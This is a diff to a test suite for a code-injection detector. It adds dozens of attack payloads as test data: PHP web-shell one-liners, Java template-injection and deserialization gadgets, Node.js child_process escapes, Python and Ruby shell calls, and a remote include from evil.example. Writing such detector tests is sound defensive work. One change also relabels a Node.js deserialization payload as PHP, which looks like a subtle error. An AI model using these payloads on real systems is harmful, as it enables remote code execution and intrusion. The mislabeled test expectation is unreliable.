@@ -28,7 +28,7 @@ describe('codeDetector', () => {
     ['php', '{{phpinfo()}}'],
     ['java', '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://e/"]]]]'],
     ['java', '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://e/x","autoCommit":true}'],
-    ['nodejs', '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'],
+    ['php', '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'],
     ['java', '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>'],
     ['php', "<?php system($_GET['c']); ?>"],
     ['php', '<?=`id`?>'],
@@ -60,13 +60,59 @@ describe('codeDetector', () => {
     ['java', "redirect:${%23a%3d(new java.lang.ProcessBuilder('id')).start()}"],
     ['java', 'javax.naming.InitialContext'],
     ['rce', "import os;os.system('id')"],
+    ['java', '%{#a=1}'],
+    ['java', '${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}'],
+    ['java', '${T(java.lang.System).exit(0)}'],
+    ['java', '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")'],
+    ['java', "[#assign x='freemarker.template.utility.Execute'?new()]"],
+    ['nodejs', 'this.constructor.constructor("return process")()'],
+    ['java', '!!com.sun.rowset.JdbcRowSetImpl'],
+    ['java', '{"@type":"java.lang.AutoCloseable","@type":"x.y.Z"}'],
+    ['java', '{"@class":"org.apache.commons.configuration.JNDIConfiguration"}'],
+    ['java', '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>'],
+    ['php', '<?php phpinfo();'],
+    ['php', "<? system('id'); ?>"],
+    ['php', '<script language="php">system(\'id\')</script>'],
+    ['php', "passthru('id')"],
+    ['php', 'shell_exec("id")'],
+    ['php', "popen('id','r')"],
+    ['php', '`$_GET[c]`'],
+    ['php', "create_function('','phpinfo();')"],
+    ['php', "array_map('system',array('id'))"],
+    ['php', '${eval($_GET[1])}'],
+    ['php', 'assert("phpinfo()")'],
+    ['php', "include('http://evil.example/a.txt')"],
+    ['php', "$a='sys'.'tem';$a('id')"],
+    ['java', 'Runtime.getRuntime().exec("calc")'],
+    ['java', 'T(java.lang.Runtime)'],
+    ['java', 'java.lang.ProcessBuilder'],
+    ['java', "%{(#nike='multipart/form-data')}"],
+    ['java', "@java.lang.Runtime@getRuntime().exec('id')"],
+    ['java', 'class.module.classLoader.URLs[0]=0'],
+    ['nodejs', 'require("child_process").exec("id")'],
+    ['nodejs', "process.mainModule.require('child_process')"],
+    ['nodejs', "global.process.mainModule.constructor._load('child_process')"],
+    ['nodejs', 'Function("return this")()'],
+    ['nodejs', 'new Function("return process")()'],
+    ['nodejs', "import('child_process')"],
+    ['rce', 'exec("import os; os.system(\'id\')")'],
+    ['rce', "eval(\"__import__('os').popen('id').read()\")"],
+    ['rce', "os.popen('id').read()"],
+    ['rce', "subprocess.check_output(['id'])"],
+    ['rce', '`#{%x(id)}`'],
+    ['php', "eval('1+1')"],
+    ['rce', "IO.popen('id')"],
+    ['php', 'system("id")'],
   ];
 
-  test.each(attacks)('%s is blocked: %j', (attackClass, text, at) => {
-    const { action, findings } = inspect(text, at);
-    expect({ action, classes: [...new Set(findings.map((finding) => finding.class))] }).toMatchObject({
-      action: 'block',
-      classes: expect.arrayContaining([attackClass]),
-    });
-  });
+  test.each(attacks.map(([attackClass, text, at]) => ({ attackClass, text, at })))(
+    '$attackClass: $text',
+    ({ attackClass, text, at }) => {
+      const { action, findings } = inspect(text, at);
+      expect({ action, classes: [...new Set(findings.map((finding) => finding.class))] }).toMatchObject({
+        action: 'block',
+        classes: expect.arrayContaining([attackClass]),
+      });
+    },
+  );
 });
